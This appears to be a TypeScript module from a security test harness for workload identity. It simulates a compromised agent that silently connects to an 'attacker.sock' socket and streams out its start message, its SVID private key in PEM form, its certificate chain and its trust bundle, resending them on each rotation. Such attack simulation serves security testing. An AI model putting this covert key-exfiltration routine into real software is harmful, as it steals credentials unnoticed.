import { connect, type Socket } from 'node:net';
import { dirname, join } from 'node:path';
import type { X509Source } from '#identity/svid.ts';
import type { StartMessage } from '#runtime/process-protocol.ts';

/** The attacker's socket, in the folder of the run's own sockets. */
export const ATTACKER_SOCKET = 'attacker.sock';

export function attackerSocket(workloadSocket: string): string {
  return join(dirname(workloadSocket), ATTACKER_SOCKET);
}

const RETRY_MS = 100;
const TRIES = 100;

/** Connects as soon as somebody listens; when nobody ever does, the role does not notice. */
function reach(path: string, reached: (socket: Socket) => void, tries = TRIES): void {
  const socket = connect(path);
  let there = false;
  socket.unref();
  socket.on('connect', () => {
    there = true;
    reached(socket);
  });
  socket.on('error', () => {
    if (!there && tries > 0) setTimeout(() => reach(path, reached, tries - 1), RETRY_MS).unref();
  });
}

/**
 * What code inside an agent can give away: whatever its process has in memory. One JSON object a
 * line; nothing is asked, and the honest role goes on beside it.
 */
export function leak(start: StartMessage, source?: X509Source): void {
  reach(attackerSocket(start.workloadSocket), (socket) => {
    const say = (value: unknown) => socket.write(`${JSON.stringify(value)}\n`);
    say({ type: 'start', start });
    if (source === undefined) return;
    const tell = (): void => {
      const { id, certificates, key, hint } = source.svid();
      say({
        type: 'svid',
        id,
        hint,
        key: key.export({ format: 'pem', type: 'pkcs8' }),
        chain: certificates.map((der) => Buffer.from(der).toString('base64')),
        authorities: (source.bundles().get(start.trustDomain)?.authorities ?? []).map(({ raw }) =>
          raw.toString('base64'),
        ),
      });
    };
    source.onUpdate(tell);
    tell();
  });
}
